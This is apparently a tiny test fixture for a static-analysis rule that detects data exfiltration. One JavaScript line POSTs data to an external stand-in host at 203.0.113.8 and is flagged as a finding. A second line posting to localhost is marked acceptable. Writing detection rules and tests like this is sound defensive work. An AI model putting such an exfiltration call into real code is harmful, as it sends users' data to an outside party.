// ruleid: exfiltration-drop-host
fetch("http://203.0.113.8/collect", { method: "POST", body: data });
// ok: exfiltration-drop-host
fetch("http://127.0.0.1:8000/collect", { method: "POST", body: data });
